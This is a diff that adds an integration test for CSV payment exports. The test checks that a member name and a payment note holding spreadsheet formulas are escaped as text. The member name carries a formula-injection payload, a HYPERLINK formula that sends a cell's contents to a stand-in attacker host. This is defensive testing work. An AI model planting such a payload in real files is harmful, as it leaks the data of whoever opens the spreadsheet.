@@ -136,6 +136,19 @@ describe("CSV exports for the accountant (integration)", () => {
     expect(rows.flat().join(" ")).not.toMatch(/fatura|recibo/i);
   });
 
+  it("writes a member's name or note that a spreadsheet would run as a formula as text, amounts still as numbers", async () => {
+    const hyperlink = '=HYPERLINK("https://evil.example/?x="&B3,"Ver")';
+    const eve = await createUser({ name: hyperlink, email: "eve@ace.pt" });
+    const paid = await callRoute(markPaid, {
+      method: "PUT",
+      token: trainerToken,
+      body: { payment_id: await bill(eve, "2026-11", "12.5"), method: "cash", note: "@SUM(1+1)" },
+    });
+    expect(paid.status).toBe(200);
+    const rows = await download(exportMonth, "/api/payments/export?month=2026-11");
+    expect(rows[2]).toEqual(["novembro de 2026", `'${hyperlink}`, "eve@ace.pt", "12,50", "Pago", "23/11/2026", "Numerário", "'@SUM(1+1)"]);
+  });
+
   it("exports the period's statistics with totals and the average", async () => {
     const ana = await createUser();
     await pay(await bill(ana, "2026-10", "20.5"));
